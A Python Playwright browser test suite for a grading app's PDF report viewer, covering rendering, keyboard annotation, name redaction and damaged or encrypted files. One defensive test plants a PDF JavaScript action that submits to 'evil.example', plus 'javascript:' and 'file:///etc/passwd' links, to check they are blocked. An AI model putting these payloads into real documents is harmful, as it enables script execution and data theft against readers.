"""The report in a real browser: drawn, read, marked with the keyboard alone, with names covered, and what happens to a broken PDF."""

import pytest
from playwright.sync_api import expect
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from reportlab.pdfbase.pdfmetrics import stringWidth

from grading.models import Annotation
from grading.templatetags import reports
from tests.browsing import axe_finds
from tests.grading.grades.grades import released, with_rubric
from tests.grading.notes.reports import LINES, note_in, report_of, written_pdf

pytestmark = [pytest.mark.part("chromium"), pytest.mark.django_db(transaction=True)]
DRAWN = ".report-page[data-page='1'] canvas"


@pytest.fixture
def open_as(page_of):
    def opened(person, path, width=1280, **more):
        page = page_of(person, width, **more)
        page.asked = []
        page.on("request", lambda request: page.asked.append(request.url))
        page.goto(path)
        return page

    return opened


def words(page, number=1):
    return page.locator(f".report-page[data-page='{number}'] .textLayer").inner_text()


def pixel(page, x, y):
    """Red, green and blue at a share of the first page's picture."""
    return page.evaluate(
        """([selector, x, y]) => { const canvas = document.querySelector(selector);
        return [...canvas.getContext("2d").getImageData(Math.round(x * canvas.width), Math.round(y * canvas.height), 1, 1).data].slice(0, 3); }""",
        [DRAWN, x, y],
    )


def test_a_report_is_drawn_with_its_words_over_it_and_nothing_from_elsewhere(open_as, cast, tmp_path, live_server):
    piece = report_of(cast, cast.ruth, tmp_path, pages=3)
    page = open_as(cast.ruth, piece.get_absolute_url())
    expect(page.locator(DRAWN)).to_be_visible(timeout=20_000)
    assert all(line in words(page) for line in LINES)
    assert min(pixel(page, n / 200, 68 / 842)[0] for n in range(24, 150)) < 90  # ink where the first line stands
    expect(page.locator("[data-report-place]")).to_have_text("page 1 of 3")
    page.locator(".report-page[data-page='3']").scroll_into_view_if_needed()
    expect(page.locator(".report-page[data-page='3'] canvas")).to_be_visible()
    assert "Page 3 of the report" in words(page, 3)
    assert page.locator("[data-report-annotate]").count() == 0
    assert [url for url in page.asked if not url.startswith(live_server.url)] == [] and page.wrong == []
    assert axe_finds(page) == []


def test_the_size_follows_the_keys_and_stays_sharp(open_as, cast, tmp_path):
    piece = report_of(cast, cast.ruth, tmp_path)
    page = open_as(cast.ruth, piece.get_absolute_url(), width=360, device_scale_factor=2)
    expect(page.locator(DRAWN)).to_be_visible(timeout=20_000)
    width = page.locator(DRAWN).bounding_box()["width"]
    assert page.evaluate("document.documentElement.scrollWidth") == 360
    page.keyboard.press("+")
    page.wait_for_function(
        "([selector, width]) => document.querySelector(selector)?.width >= 2.4 * width", arg=[DRAWN, width]
    )
    assert page.locator(DRAWN).bounding_box()["width"] == pytest.approx(1.25 * width, abs=2)
    assert page.evaluate("document.documentElement.scrollWidth") == 360  # the paper scrolls, not the page
    page.keyboard.press("0")
    page.wait_for_function(
        "([selector, width]) => document.querySelector(selector)?.width <= 2.1 * width", arg=[DRAWN, width]
    )
    assert page.wrong == []


def test_a_note_is_written_with_the_keyboard_alone_and_is_there_after_a_reload(open_as, cast, tmp_path):
    with_rubric(cast)
    piece = report_of(cast, cast.ruth, tmp_path)
    page = open_as(cast.amit, piece.get_absolute_url())
    expect(page.locator(DRAWN)).to_be_visible(timeout=20_000)
    page.keyboard.press("a")
    say = page.locator("[data-report-say]")
    expect(say).to_have_text(f"Page 1, line 1: {LINES[0]}")
    for key in ["ArrowDown"] * 6 + ["Home"] + ["Shift+ArrowRight"] * 2:
        page.keyboard.press(key)
    expect(say).to_have_text("Page 1, line 7: Training with quantization")
    page.keyboard.press("Enter")
    expect(page.locator("#note-text")).to_be_focused()
    page.keyboard.type("Add the *interval*.")
    page.keyboard.press("Tab")
    page.keyboard.type("Report")
    page.keyboard.press("Control+Enter")
    expect(say).to_have_text("The note is saved.")
    note = Annotation.objects.get()
    assert (note.quote, note.page, note.kind, note.item.key) == ("Training with quantization", 1, "highlight", "report")
    (box,) = note.boxes
    left, width = 72 / 595.28, stringWidth("Training with quantization", "Helvetica", 12) / 595.28
    assert box[0] == pytest.approx(left, abs=0.004) and box[2] == pytest.approx(left + width, abs=0.012)
    assert box[1] < (842 - (770 - 22 * 6)) / 842 < box[3]
    page.reload()
    expect(page.locator(".report-mark")).to_be_visible(timeout=20_000)
    page.locator(".report-pin").focus()
    page.keyboard.press("Enter")
    expect(page.locator(".report-card em")).to_have_text("interval")
    assert axe_finds(page) == []
    page.keyboard.press("Escape")
    expect(page.locator(".report-card")).to_have_count(0)
    expect(page.locator(".report-pin")).to_be_focused()
    assert page.wrong == []


def test_what_is_typed_outlives_escape_and_a_reload_until_it_is_saved(open_as, cast, tmp_path):
    piece = report_of(cast, cast.ruth, tmp_path)
    page = open_as(cast.amit, piece.get_absolute_url())
    expect(page.locator(DRAWN)).to_be_visible(timeout=20_000)
    page.evaluate("document.dispatchEvent(new Event('desk:annotate'))")
    page.keyboard.press("p")
    expect(page.locator("#note-text")).to_be_focused()
    page.keyboard.type("Half a sen")
    page.keyboard.press("Escape")
    page.reload()
    page.get_by_role("button", name="Go on writing").click()
    expect(page.locator("#note-text")).to_have_value("Half a sen")
    page.context.set_offline(True)
    page.keyboard.press("Control+Enter")
    expect(page.locator("#note-error")).to_contain_text("What you typed is still here")
    page.context.set_offline(False)
    page.keyboard.press("Control+Enter")
    expect(page.locator(".report-pin")).to_have_text("1")
    assert Annotation.objects.get().kind == "point"


def test_words_are_marked_with_the_mouse_and_a_removed_note_comes_back(open_as, cast, tmp_path):
    piece = report_of(cast, cast.ruth, tmp_path)
    page = open_as(cast.amit, piece.get_absolute_url())
    expect(page.locator(DRAWN)).to_be_visible(timeout=20_000)
    line = page.locator(".textLayer span", has_text="Training").bounding_box()
    page.mouse.move(line["x"] + 1, line["y"] + line["height"] / 2)
    page.mouse.down()
    page.mouse.move(line["x"] + 60, line["y"] + line["height"] / 2, steps=5)
    page.mouse.up()
    page.get_by_role("button", name="Write a note").click()
    expect(page.locator("[data-note-quote]")).to_contain_text("Training")
    page.locator("#note-text").fill("Which?")
    page.get_by_role("button", name="Save the note").click()
    page.locator(".report-list").get_by_role("button", name="Remove note 1").click()
    expect(page.locator(".report-pin")).to_have_count(0)
    page.get_by_role("button", name="Undo").click()
    expect(page.locator(".report-pin")).to_have_text("1")
    assert page.wrong == []


def test_a_student_reads_a_note_on_a_phone_and_has_nothing_to_write_with(open_as, cast, tmp_path):
    piece = report_of(cast, cast.ruth, tmp_path)
    note_in(cast, piece, "Add the *interval*.")
    released(cast)
    page = open_as(cast.ruth, piece.get_absolute_url(), width=360)
    expect(page.locator(".report-pin")).to_be_visible(timeout=20_000)
    page.locator(".report-pin").click()
    card = page.locator(".report-card")
    expect(card).to_contain_text("Add the interval.")
    box = card.bounding_box()
    assert (
        box["x"] >= 0
        and box["x"] + box["width"] <= 360
        and page.evaluate("document.documentElement.scrollWidth") == 360
    )
    page.keyboard.press("a")
    assert page.locator("button", has_text="Change").count() == page.locator(".note-form").count() == 0
    assert page.wrong == [] and axe_finds(page) == []


def test_names_are_covered_in_the_picture_and_gone_from_the_text(open_as, cast, tmp_path, monkeypatch):
    lines = [
        *LINES,
        "ruth did all. We use Ru\u0301th's set, and Sofia is no author; nothing an-",
        "nounced Ru-",
        "th",
        "github.com/ruth/lab",
    ]
    piece = report_of(cast, cast.ruth, tmp_path, lines=lines)
    note_in(cast, piece, quote="as Ruth says", text="Names the author.")
    hide_names(monkeypatch)
    page = open_as(cast.amit, piece.get_absolute_url())
    expect(page.locator(DRAWN)).to_be_visible(timeout=20_000)
    text = words(page)
    assert "ruth@" not in text and "Ruth" not in text and "Daniel" in text and "quantization" in text
    assert "ruth did all" in text  # four small letters are a word; at /ruth/ they are a name
    assert "github.com/ruth" not in text and "an-" in text
    assert "[name]" in page.locator(".report-quote").first.inner_text()
    # Every pixel of the name in the line of authors, known from the font's own widths.
    y = (842 - (770 - 22) - 4) / 842
    width = stringWidth("Ruth", "Helvetica", 12)
    assert {tuple(pixel(page, (72 + share * width) / 595.28, y)) for share in (0.01, 0.2, 0.4, 0.6, 0.8, 0.99)} == {
        (23, 25, 28)
    }
    assert page.locator(".report-link").count() == 0
    assert "Names inside pictures cannot be found" in page.locator(".report").inner_text()
    assert page.locator(".report a[href$='/file/']").count() == 0
    assert page.wrong == [] and axe_finds(page) == []


def hide_names(monkeypatch):
    """As the desk hides them: the page of a report alone has no such rule."""

    real = reports.annotations.report_facts
    monkeypatch.setattr(
        reports.annotations, "report_facts", lambda visit, piece, hide_names: real(visit, piece, hide_names=True)
    )


@pytest.mark.parametrize("content", [b"%PDF-1.7\nnothing more", b""])
def test_a_broken_pdf_is_a_sentence_and_the_file_to_save(open_as, cast, tmp_path, content):
    piece = report_of(cast, cast.ruth, tmp_path)
    path = tmp_path / "media" / piece.file.name
    path.write_bytes(content)
    page = open_as(cast.amit, piece.get_absolute_url())
    expect(page.locator("[data-report-why]")).to_have_text(
        "This PDF is damaged, so it cannot be shown here.", timeout=20_000
    )
    assert page.locator(".report-broken").get_by_role("link", name="Save the file").is_visible()
    path.write_bytes(written_pdf(tmp_path).path.read_bytes())
    page.get_by_role("button", name="Try again").click()
    expect(page.locator(DRAWN)).to_be_visible(timeout=20_000)
    expect(page.locator(".report-broken")).to_be_hidden()


def test_a_pdf_that_asks_for_a_password_says_so(open_as, cast, tmp_path):

    piece = report_of(cast, cast.ruth, tmp_path)
    path = tmp_path / "media" / piece.file.name
    writer = PdfWriter(clone_from=PdfReader(str(path)))
    writer.encrypt("secret")
    writer.write(path)
    page = open_as(cast.ruth, piece.get_absolute_url())
    expect(page.locator("[data-report-why]")).to_contain_text("asks for a password", timeout=20_000)


def test_what_a_pdf_brings_along_is_never_run_and_its_links_open_apart(open_as, cast, tmp_path, live_server):

    piece = report_of(cast, cast.ruth, tmp_path)
    path = tmp_path / "media" / piece.file.name
    writer = PdfWriter(clone_from=PdfReader(str(path)))
    script = TextStringObject("app.alert('run'); this.submitForm('https://evil.example/');")
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): script})
    writer.root_object[NameObject("/OpenAction")] = action
    for n, url in enumerate(("https://example.org/lab", "javascript:alert(1)", "file:///etc/passwd")):
        writer.add_annotation(0, Link(rect=(72, 600 - 30 * n, 200, 620 - 30 * n), url=url))
    writer.write(path)
    page = open_as(cast.ruth, piece.get_absolute_url())
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    expect(page.locator(DRAWN)).to_be_visible(timeout=20_000)
    expect(page.locator(".report-link")).to_have_count(1)
    link = page.locator(".report-link")
    assert link.get_attribute("href") == "https://example.org/lab" and "noopener" in link.get_attribute("rel")
    assert dialogs == [] and page.wrong == []
    assert [url for url in page.asked if not url.startswith(live_server.url)] == []


def test_without_a_script_the_browsers_own_viewer_stands_there(open_as, cast, tmp_path):
    piece = report_of(cast, cast.ruth, tmp_path)
    page = open_as(cast.amit, piece.get_absolute_url(), java_script_enabled=False)
    assert page.locator(".report iframe").get_attribute("src") == f"{piece.get_absolute_url()}pdf/"
    assert page.locator("#plain-text").is_visible() and page.locator(".report-acts").first.is_hidden()


def test_another_graders_note_comes_in_while_the_page_is_open(open_as, cast, tmp_path):
    piece = report_of(cast, cast.ruth, tmp_path)
    page = open_as(cast.amit, piece.get_absolute_url())
    expect(page.locator(DRAWN)).to_be_visible(timeout=20_000)
    note_in(cast, piece, "By Helen.", by=cast.helen)
    expect(page.locator(".report-pin")).to_have_text("1", timeout=16_000)
    expect(page.locator(".report-list")).to_contain_text("By Helen.")
